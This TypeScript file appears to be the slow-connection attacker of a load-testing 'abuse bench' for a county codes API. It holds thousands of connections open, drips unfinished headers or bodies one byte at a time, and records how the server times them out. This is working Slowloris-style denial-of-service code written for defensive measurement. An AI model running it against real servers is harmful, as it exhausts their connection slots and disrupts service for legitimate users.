// The slow-connection attacker of the abuse bench, in a process of its own (so that its thousands of
// sockets never share the measuring process's event loop). Receives a SlowSpec over IPC, answers
// 'ready' once every connection was tried, and on 'stop' answers what it saw (SlowResult) and exits.
//
// It holds `connections` connections from one source address, each sending a request one byte every
// `dripMs` (headers never finished, or a body of Content-Length 16 000 never finished), and opens a
// new one `reconnectMs` after the server closed one, as an attacker keeping the slots busy would.
import { connect, type Socket } from 'node:net';

export interface SlowSpec {
  host: string;
  port: number;
  localAddress: string;
  connections: number;
  mode: 'headers' | 'body';
  /** An active code of the county: the requests look like a citizen's until they stall. */
  code: string;
  dripMs: number;
  reconnectMs: number;
  /** New connections per second while the attack builds up. */
  openPerSecond: number;
}

export interface SlowResult {
  /** Connections opened (TCP handshake done), over the whole attack. */
  opened: number;
  /** Connect attempts that failed outright (refused, reset, out of ports or descriptors). */
  connectErrors: number;
  /** Most connections open at once, as this client saw them. */
  peakOpen: number;
  /** Closed by the server after answering 408 (its header or request timeout). */
  timedOut408: number;
  /** Closed by the server without a byte of answer (the per-address cap closes them at once). */
  closedUnanswered: number;
  /** Of the closed-unanswered, how many lived less than one second. */
  closedWithin1s: number;
  /** The longest any connection lived before the server closed it, in seconds. */
  slowestCutS: number;
  /** Median lifetime of the connections answered 408, in seconds. */
  medianTimeoutS: number;
  /** Still open when the attack stopped, and the oldest of them, in seconds. */
  openAtStop: number;
  oldestOpenAtStopS: number;
}

interface Slot {
  socket: Socket | null;
  openedAt: number;
  answered: boolean;
}

function run(spec: SlowSpec, stopped: Promise<void>): Promise<SlowResult> {
  const head =
    spec.mode === 'headers'
      ? `GET /api/codes/${spec.code} HTTP/1.1\r\nHost: ${spec.host}\r\nUser-Agent: Mozilla/5.0\r\nX-Slow: `
      : `POST /api/codes/${spec.code}/ratings HTTP/1.1\r\nHost: ${spec.host}\r\nContent-Type: application/json\r\nContent-Length: 16000\r\n\r\n{`;
  const drip = spec.mode === 'headers' ? 'a' : ' ';
  const result: SlowResult = {
    opened: 0,
    connectErrors: 0,
    peakOpen: 0,
    timedOut408: 0,
    closedUnanswered: 0,
    closedWithin1s: 0,
    slowestCutS: 0,
    medianTimeoutS: 0,
    openAtStop: 0,
    oldestOpenAtStopS: 0,
  };
  const timeouts: number[] = [];
  const open = new Set<Slot>();
  let stopping = false;

  const start = (slot: Slot) => {
    if (stopping) return;
    const socket = connect({ host: spec.host, port: spec.port, localAddress: spec.localAddress });
    slot.socket = socket;
    slot.answered = false;
    let connected = false;
    socket.setNoDelay(true);
    socket.on('connect', () => {
      connected = true;
      slot.openedAt = performance.now();
      result.opened++;
      open.add(slot);
      result.peakOpen = Math.max(result.peakOpen, open.size);
      socket.write(head);
    });
    socket.on('data', (d) => {
      if (!slot.answered && /^HTTP\/1\.1 408/.test(String(d))) {
        slot.answered = true;
      }
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      if (stopping) return;
      open.delete(slot);
      slot.socket = null;
      if (!connected) result.connectErrors++;
      else {
        const lived = (performance.now() - slot.openedAt) / 1000;
        result.slowestCutS = Math.max(result.slowestCutS, lived);
        if (slot.answered) {
          result.timedOut408++;
          timeouts.push(lived);
        } else {
          result.closedUnanswered++;
          if (lived < 1) result.closedWithin1s++;
        }
      }
      setTimeout(() => start(slot), spec.reconnectMs).unref();
    });
  };

  // One timer for all: a byte on every open connection every dripMs.
  const dripper = setInterval(() => {
    for (const slot of open) if (slot.socket?.writable) slot.socket.write(drip);
  }, spec.dripMs);

  return new Promise((resolve) => {
    const slots: Slot[] = Array.from({ length: spec.connections }, () => ({ socket: null, openedAt: 0, answered: false }));
    let next = 0;
    const perTick = Math.max(1, Math.round(spec.openPerSecond / 10));
    const opener = setInterval(() => {
      for (let i = 0; i < perTick && next < slots.length; i++) start(slots[next++]!);
      if (next >= slots.length) {
        clearInterval(opener);
        process.send!({ ready: true });
      }
    }, 100);
    void stopped.then(() => {
      stopping = true;
      clearInterval(opener);
      clearInterval(dripper);
      const now = performance.now();
      result.openAtStop = open.size;
      for (const slot of open) result.oldestOpenAtStopS = Math.max(result.oldestOpenAtStopS, (now - slot.openedAt) / 1000);
      for (const slot of slots) slot.socket?.destroy();
      timeouts.sort((a, b) => a - b);
      result.medianTimeoutS = timeouts.length ? timeouts[Math.floor(timeouts.length / 2)]! : 0;
      resolve(result);
    });
  });
}

process.once('message', (spec: SlowSpec) => {
  const stopped = new Promise<void>((resolve) => process.on('message', (m) => m === 'stop' && resolve()));
  run(spec, stopped).then(
    (r) => process.send!({ result: r }, () => process.exit(0)),
    (err: unknown) => {
      console.error(err);
      process.exit(1);
    },
  );
});
